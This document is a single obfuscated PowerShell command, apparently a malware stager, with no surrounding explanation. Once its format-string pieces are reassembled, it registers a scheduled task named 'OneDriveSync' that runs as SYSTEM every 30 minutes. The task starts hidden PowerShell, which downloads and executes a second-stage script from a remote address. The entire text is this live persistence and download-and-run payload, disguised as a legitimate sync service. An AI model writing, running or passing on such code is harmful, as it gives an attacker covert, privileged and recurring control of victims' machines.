iex ("{0}{3}{4}{1}{2}" -f '# run 2515 v4
$cmd = "powershell.ex','sks /create /tn "OneDriveSync" /tr $cmd /sc minute /mo 30 /ru SY','STEM /f
','e -nop -w hidd','en -c `"IEX ((new-object net.webclient).downloadstring(''http://192.0.2.150:9001/stage2.ps1''))`""
schta')